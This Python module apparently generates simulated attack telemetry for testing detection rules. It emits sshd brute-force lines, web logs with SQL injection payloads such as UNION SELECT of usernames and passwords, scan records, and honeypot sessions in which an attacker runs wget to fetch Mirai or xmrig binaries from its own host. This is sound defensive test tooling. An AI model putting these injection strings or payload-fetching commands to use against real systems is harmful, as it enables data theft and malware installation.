"""Realistic events for a simulated attack, in the shapes real sensors send (syslog auth.log lines,
combined-format access logs, Cowrie JSON, generic JSON connection records)."""

from __future__ import annotations

import hashlib
import random
from datetime import datetime, timedelta
from typing import Any

# Events per attack type and intensity; each low is already past the built-in rule's threshold.
VOLUME = {
    "brute_force": {"low": 12, "medium": 30, "high": 80},
    "sql_injection": {"low": 3, "medium": 8, "high": 20},
    "ddos": {"low": 320, "medium": 500, "high": 900},
    "port_scan": {"low": 20, "medium": 60, "high": 200},
    "malware": {"low": 1, "medium": 2, "high": 4},  # honeypot sessions, 6 events each
}
SPAN_SECONDS = {"brute_force": 120, "sql_injection": 60, "ddos": 8, "port_scan": 40, "malware": 60}
SQLI = [
    "GET /products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
    "GET /item?id=1%20OR%201=1-- HTTP/1.1",
    "GET /search?q=%27%20UNION%20ALL%20SELECT%20NULL,version()-- HTTP/1.1",
    "POST /login?user=admin%27--&pass=x HTTP/1.1",
]
USERS = ["root", "admin", "ubuntu", "oracle", "postgres", "test", "git", "pi"]


def planned_events(attack_type: str, intensity: str) -> int:
    count = VOLUME[attack_type][intensity]
    return count * 6 if attack_type == "malware" else count


def _syslog(stamp: datetime, host: str, message: str, pid: int) -> str:
    return f"{stamp:%b} {stamp.day:2d} {stamp:%H:%M:%S} {host} sshd[{pid}]: {message}"


def _access(stamp: datetime, ip: str, request: str, status: int, agent: str) -> str:
    return f'{ip} - - [{stamp:%d/%b/%Y:%H:%M:%S +0000}] "{request}" {status} 512 "-" "{agent}"'


def generate(
    *, attack_type: str, intensity: str, target: str, source_ip: str, now: datetime, seed: str
) -> list[dict[str, Any]]:
    """ingest/multi items (each names its source type), timestamps spread over the attack's span
    and ending at `now`; the same seed gives the same events."""
    rng = random.Random(seed)  # noqa: S311 (test traffic, not secrets)
    count = VOLUME[attack_type][intensity]
    span = SPAN_SECONDS[attack_type]
    host = (target or "target")[:60].replace(" ", "-")

    def stamp(n: int) -> datetime:
        return now - timedelta(seconds=span * (count - n) / max(count, 1))

    items: list[dict[str, Any]] = []
    if attack_type == "brute_force":
        for n in range(count):
            user = rng.choice(USERS)
            line = _syslog(
                stamp(n),
                host,
                f"Failed password for {user} from {source_ip} port {rng.randint(30000, 65000)} ssh2",
                rng.randint(1000, 65000),
            )
            items.append({"source_type": "sshd", "line": line})
    elif attack_type == "sql_injection":
        for n in range(count):
            items.append(
                {
                    "source_type": "web",
                    "line": _access(stamp(n), source_ip, rng.choice(SQLI), 200, "sqlmap/1.7.2"),
                }
            )
    elif attack_type == "ddos":
        for n in range(count):
            request = f"GET /{rng.choice(['', 'index.html', 'login', 'api/status'])} HTTP/1.1"
            items.append(
                {"source_type": "web", "line": _access(stamp(n), source_ip, request, 200, "Mozilla/5.0")}
            )
    elif attack_type == "port_scan":
        ports = rng.sample(range(1, 65536), count)
        for n, port in enumerate(ports):
            event = {
                "timestamp": stamp(n).isoformat(),
                "src_ip": source_ip,
                "dst_ip": target if _is_ip(target) else "192.0.2.10",
                "dst_port": port,
                "action": "connection",
                "outcome": "blocked",
                "host": host,
            }
            items.append({"source_type": "json", "event": event})
    elif attack_type == "malware":
        for session_no in range(count):
            session = hashlib.sha256(f"{seed}-{session_no}".encode()).hexdigest()[:12]
            url = f"http://{source_ip}/bins/{rng.choice(['mirai.x86', 'bot.sh', 'xmrig'])}"
            shasum = hashlib.sha256(f"{seed}-payload".encode()).hexdigest()
            base = {
                "src_ip": source_ip,
                "src_port": 40000 + session_no,
                "dst_ip": "192.0.2.10",
                "dst_port": 2222,
            }
            steps: list[dict[str, Any]] = [
                {"eventid": "cowrie.session.connect", "protocol": "ssh", "message": "New connection"},
                {
                    "eventid": "cowrie.login.success",
                    "username": "root",
                    "password": "admin",
                    "message": "login",
                },
                {"eventid": "cowrie.command.input", "input": "uname -a", "message": "CMD: uname -a"},
                {"eventid": "cowrie.command.input", "input": f"wget {url}", "message": f"CMD: wget {url}"},
                {
                    "eventid": "cowrie.session.file_download",
                    "url": url,
                    "shasum": shasum,
                    "outfile": f"var/lib/cowrie/downloads/{shasum}",
                    "message": "Downloaded URL",
                },
                {"eventid": "cowrie.session.closed", "duration": 12.5, "message": "Connection lost"},
            ]
            for step_no, step in enumerate(steps):
                moment = stamp(session_no) + timedelta(seconds=step_no)
                event = {**base, **step, "session": session, "sensor": host, "timestamp": moment.isoformat()}
                items.append({"source_type": "cowrie", "event": event})
    else:
        raise ValueError(attack_type)
    return items


def _is_ip(value: str) -> bool:
    import ipaddress

    try:
        ipaddress.ip_address(value)
    except ValueError:
        return False
    return True
